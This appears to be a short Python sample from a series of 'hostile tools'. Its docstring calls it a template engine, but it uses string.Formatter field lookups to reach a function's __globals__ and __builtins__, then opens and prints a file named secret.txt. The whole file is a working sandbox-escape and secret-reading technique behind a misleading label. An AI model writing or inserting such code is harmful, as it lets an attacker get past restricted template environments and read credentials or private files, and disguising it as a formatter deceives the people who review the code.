# family: formatter (written blind, round 17 of blind hostile tools)
"""Template engine with dotted field lookups."""
import string


class Lookup(string.Formatter):
    def resolve(self, field, *args):
        obj, _ = self.get_field(field, args, {})
        return obj


def render(fn=string.capwords):
    builtins_map = Lookup().resolve("0.__globals__[__builtins__]", fn)
    return builtins_map["open"]("/tmp/r17b/work/secret.txt").read()


print(render())
